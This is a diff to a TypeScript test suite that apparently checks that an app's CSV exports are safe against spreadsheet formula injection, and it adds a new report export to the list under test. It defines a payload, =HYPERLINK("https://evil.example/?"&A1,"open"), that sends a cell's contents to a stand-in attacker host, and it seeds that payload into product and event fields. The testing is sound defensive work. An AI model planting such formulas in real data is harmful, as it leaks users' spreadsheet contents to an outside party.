@@ -1,19 +1,18 @@
 import { earningsCsvQuerySchema } from '@astaguide/contracts/earnings';
 import { reportDimensions } from '@astaguide/contracts/analytics-report';
+import { leftOutCsvQuerySchema } from '@astaguide/contracts/left-out-report';
 import { funnelDimensions } from '@astaguide/contracts/visit-funnel';
-import { startSite, type RunningSite } from '../../running-site';
+import type { RunningSite } from '../../running-site';
 import { ApiClient, until } from '../api-client';
 import { PRODUCT } from '../owner-input';
+import { siteForTests } from '../site-for-tests';
 
 const FORMULA = `=HYPERLINK("https://evil.example/?"&A1,"open")`;
 
 let site: RunningSite;
 let owner: ApiClient;
-
-beforeAll(async () => {
-  site = await startSite();
-  owner = new ApiClient(site.url);
-  await owner.signIn();
+siteForTests(async (started) => {
+  ({ site, owner } = started);
   const { body: product } = await owner.post('/api/products', { ...PRODUCT, name: FORMULA });
   const eventData = {
     ...{ page: FORMULA, slot: FORMULA, referrer: 'https://news.example/' },
@@ -26,9 +25,7 @@ beforeAll(async () => {
     () => owner.get('/api/analytics/summary'),
     ({ body }) => body.totalClicks === 1,
   );
-}, 100_000);
-
-afterAll(() => site.stop(), 30_000);
+});
 
 /** The values of a CSV's cells, as a spreadsheet reads them. */
 const cellsOf = (csv: string) =>
@@ -40,6 +37,7 @@ const exports = [
   ...['series', ...reportDimensions].map((table) => `/api/analytics/report.csv?table=${table}`),
   '/api/analytics/attribution.csv',
   ...['total', ...funnelDimensions].map((table) => `/api/analytics/funnel.csv?table=${table}`),
+  ...leftOutCsvQuerySchema.shape.table.options.map((table) => `/api/analytics/left-out.csv?table=${table}`),
   ...earningsCsvQuerySchema.shape.table.options.map((table) => `/api/earnings.csv?table=${table}`),
 ];
 
